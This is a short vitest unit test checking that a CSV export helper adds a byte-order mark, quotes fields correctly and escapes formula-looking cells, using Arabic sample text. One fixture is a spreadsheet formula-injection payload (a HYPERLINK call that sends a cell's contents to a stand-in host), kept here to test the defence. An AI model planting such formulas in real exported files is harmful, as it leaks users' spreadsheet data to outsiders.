import { describe, expect, it } from 'vitest';
import { csvText } from './download';

describe('csvText', () => {
  it('starts with a BOM, quotes as CSV does, and writes formula-looking cells as text', async () => {
    const text = await csvText([
      ['الاسم', 'الرسالة'],
      ['=HYPERLINK("http://x.test?"&A1)', 'سطر، وفاصلة'],
      ['@SUM(1)', '-5'],
    ]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).split('\r\n');
    expect(lines[0]).toBe('الاسم,الرسالة');
    expect(lines[1]).toBe('"\'=HYPERLINK(""http://x.test?""&A1)",سطر، وفاصلة');
    expect(lines[2]).toBe("'@SUM(1),-5");
  });
});
